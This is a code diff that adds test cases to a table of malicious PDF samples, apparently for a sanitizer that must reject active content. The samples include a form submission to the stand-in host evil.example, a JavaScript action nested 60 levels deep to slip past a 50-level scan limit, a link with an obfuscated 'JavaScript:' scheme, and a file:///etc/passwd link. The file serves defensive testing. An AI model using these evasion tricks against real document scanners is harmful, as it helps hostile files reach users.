@@ -283,6 +283,13 @@ ACTIVE_PDFS = {
     "embedded-file": (pypdf_pdf("attachment"), "embedded files"),
     "submit-form": (raw_pdf(catalog=b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
                     "form submission"),
+    # a review: a script action 60 dictionaries down passed (looking stopped at 50 levels, silently)
+    "deep-javascript": (raw_pdf(catalog=b"/OpenAction " + b"<< /S /GoTo /D [3 0 R /Fit] /Next " * 60
+                                + b"<< /S /JavaScript /JS (app.alert(1)) >>" + b" >>" * 60), "nesting too deep"),
+    "javascript-link": (raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
+                                     b"/A << /S /URI /URI (  JavaScript:app.alert%281%29) >> >>]"), "a link that runs"),
+    "file-link": (raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] "
+                               b"/A << /S /URI /URI (file:///etc/passwd) >> >>]"), "a link that runs"),
 }
 
 
